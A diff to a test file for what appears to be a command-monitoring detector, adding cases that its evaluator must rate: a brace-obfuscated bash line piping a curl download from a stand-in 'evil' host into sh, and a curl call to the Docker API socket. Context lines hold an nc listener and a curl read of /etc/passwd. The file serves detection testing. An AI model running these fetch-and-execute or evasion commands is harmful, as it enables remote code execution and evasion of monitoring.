@@ -946,6 +946,12 @@ describe("evaluate: severity and reasons", () => {
         "curl download is piped to a shell (bash)",
       ],
       [
+        "session: a command written with braces instead of spaces",
+        session("bash", "-c", "{curl,-s,http://evil/x}|{sh,}"),
+        "critical",
+        "curl download is piped to a shell (sh)",
+      ],
+      [
         "session: a subshell piped to sh",
         session("sh", "-c", "(cd /tmp && curl -s http://evil/x) | sh"),
         "critical",
@@ -1260,6 +1266,10 @@ describe("evaluate: not a signal", () => {
     ["a sniffer (no target)", run("/usr/sbin/tcpdump", "-i", "lo")],
     ["a listener (no target)", run("/bin/nc", "-l", "4444")],
     ["a file URL", run("/usr/bin/curl", "file:///etc/passwd")],
+    [
+      "curl to the Docker API socket (localhost is only the URL's name)",
+      run("/usr/bin/curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"),
+    ],
     ["version plus a real target", run("/usr/bin/curl", "-V", "https://example.com/")],
   ])("%s is not exempt", (_label, event) => {
     expect(evaluate(event).kind).toBe("finding");
